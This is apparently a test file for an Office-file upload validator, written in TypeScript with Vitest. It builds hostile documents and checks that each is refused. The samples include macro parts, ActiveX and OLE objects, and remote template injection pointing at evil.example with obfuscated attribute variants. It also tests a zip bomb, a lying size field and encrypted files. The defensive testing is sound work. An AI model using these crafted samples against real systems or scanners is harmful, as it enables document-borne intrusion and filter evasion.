import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Document, ExternalHyperlink, ImageRun, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';
import { afterAll, beforeAll, expect, test } from 'vitest';
import writeXlsx from 'write-excel-file/node';
import { Refusal } from '../../domain/problems.ts';
import { inspectOfficeFile } from '../../files/office-file.ts';

const folder = mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** What is said of such bytes, null where they pass. */
async function refusalOf(bytes: Buffer): Promise<string | null> {
  const file = path.join(folder, 'file');
  writeFileSync(file, bytes);
  try {
    await inspectOfficeFile(file);
    return null;
  } catch (failure) {
    if (failure instanceof Refusal) return failure.code;
    throw failure;
  }
}

let docx: Buffer;
beforeAll(async () => {
  const picture = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  );
  const children = [
    new Paragraph('Báo cáo thành tích'),
    new Paragraph({
      children: [
        new ExternalHyperlink({ link: 'https://hungyen.gov.vn', children: [] }),
        new ImageRun({ type: 'png', data: picture, transformation: { width: 9, height: 9 } }),
      ],
    }),
  ];
  docx = await Packer.toBuffer(new Document({ sections: [{ children }] }));
});

/** The Word file with something put in, or in place of what it had. */
async function withPart(name: string, content: string | Buffer): Promise<Buffer> {
  const archive = await JSZip.loadAsync(docx);
  archive.file(name, content);
  return archive.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}
const link = (attributes: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const elsewhere = 'Target="https://evil.example/a.dotm"';
const settings = 'word/_rels/settings.xml.rels';

test('what people send passes: text, pictures, links to click, tables', async () => {
  const rows = [[{ value: 'Họ và tên' }], [{ value: 'Nguyễn Thị An' }]];
  const xlsx = await writeXlsx(rows).toBuffer();
  for (const bytes of [docx, xlsx, Buffer.from('%PDF-1.7'), Buffer.alloc(0), Buffer.from('PK')])
    expect(await refusalOf(bytes)).toBe(null);
  expect(
    await refusalOf(
      await withPart(settings, link(`Type="${type('hyperlink')}" TargetMode="External" ${elsewhere}`)),
    ),
  ).toBe(null);
  expect(
    await refusalOf(await withPart(settings, link(`Type="${type('attachedTemplate')}" Target="a.dotx"`))),
  ).toBe(null);
});

const template = `Type="${type('attachedTemplate')}" ${elsewhere}`;
test.each([
  ['macros', 'word/vbaProject.bin', 'x'],
  ['macros under another case', 'word/VBAPROJECT.BIN', 'x'],
  ['an old macro sheet', 'xl/macrosheets/sheet1.xml', 'x'],
  ['a control', 'word/activeX/activeX1.xml', 'x'],
  ['a packed object', 'word/embeddings/oleObject1.bin', 'x'],
  ['a workbook with macros within', 'word/embeddings/a.xlsm', 'x'],
  [
    'macros under a name of their own',
    '[Content_Types].xml',
    '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
  ],
  [
    'a macro type written otherwise',
    '[Content_Types].xml',
    '<Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
  ],
  ['a template from elsewhere', settings, link(`${template} TargetMode="External"`)],
  ['one in single quotes and another order', settings, link(`TargetMode='External' ${template}`)],
  ['one written in numbers', settings, link(`${template} TargetMode="&#x45;xternal"`)],
  [
    'one in another encoding',
    settings,
    Buffer.from(`\ufeff${link(`${template} TargetMode="External"`)}`, 'utf16le'),
  ],
  [
    'an object from elsewhere',
    'word/_rels/document.xml.rels',
    link(`Type="${type('oleObject')}" ${elsewhere} TargetMode="External"`),
  ],
])('refused for what would run or be fetched: %s', async (_what, name, content) => {
  expect(await refusalOf(await withPart(name, content))).toBe('active-content');
});

test('refused for what it unpacks to, without unpacking it', async () => {
  const bomb = await withPart('word/media/a.bmp', Buffer.alloc(301 * 1024 * 1024));
  expect(bomb.length).toBeLessThan(1024 * 1024);
  const before = process.memoryUsage().rss;
  expect(await refusalOf(bomb)).toBe('unpacks-too-large');
  expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
  const many = new JSZip();
  for (let i = 0; i < 3_001; i++) many.file(`${i}`, '');
  expect(await refusalOf(await many.generateAsync({ type: 'nodebuffer' }))).toBe('unpacks-too-large');
  expect(await refusalOf(await withPart(settings, Buffer.alloc(5 * 1024 * 1024, ' ')))).toBe(
    'unpacks-too-large',
  );
});

test('a part that is larger than it declares is not read on', async () => {
  const honest = await withPart(settings, Buffer.alloc(1024 * 1024, ' '));
  const declared = Buffer.alloc(4);
  declared.writeUInt32LE(1024 * 1024);
  // In the directory at the end, which is what is read.
  const at = honest.lastIndexOf(declared);
  honest.writeUInt32LE(10, at);
  expect(await refusalOf(honest)).toBe('wrong-file-type');
});

test('refused for its password, or as broken', async () => {
  const wrapped = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1024),
    Buffer.from('EncryptedPackage', 'utf16le'),
  ]);
  expect(await refusalOf(wrapped)).toBe('encrypted-file');
  const locked = Buffer.from(docx);
  locked.writeUInt16LE(
    locked.readUInt16LE(locked.lastIndexOf('PK\u0001\u0002') + 8) | 1,
    locked.lastIndexOf('PK\u0001\u0002') + 8,
  );
  expect(await refusalOf(locked)).toBe('encrypted-file');
  expect(await refusalOf(docx.subarray(0, docx.length - 30))).toBe('wrong-file-type');
});
